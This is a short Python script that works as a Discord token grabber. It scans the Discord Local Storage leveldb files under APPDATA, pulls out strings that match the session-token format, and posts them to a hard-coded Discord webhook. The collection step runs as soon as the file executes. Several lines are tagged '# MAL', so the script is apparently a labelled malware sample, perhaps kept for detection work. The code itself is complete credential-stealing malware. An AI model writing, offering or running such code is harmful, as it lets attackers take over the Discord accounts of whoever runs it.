import os
import re
import json
import urllib.request

WEBHOOK = "https://discord.com/api/webhooks/1122334455/abcDEF"  # MAL


def tokens():
    found = []
    base = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")  # MAL
    for name in os.listdir(base):
        if not name.endswith((".log", ".ldb")):
            continue
        with open(os.path.join(base, name), errors="ignore") as fh:
            for line in fh:
                found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line)  # MAL
    return found


def send(tok):
    payload = json.dumps({"content": "\n".join(tok)}).encode()
    req = urllib.request.Request(
        WEBHOOK, data=payload, headers={"Content-Type": "application/json"}
    )
    urllib.request.urlopen(req)  # MAL


send(tokens())
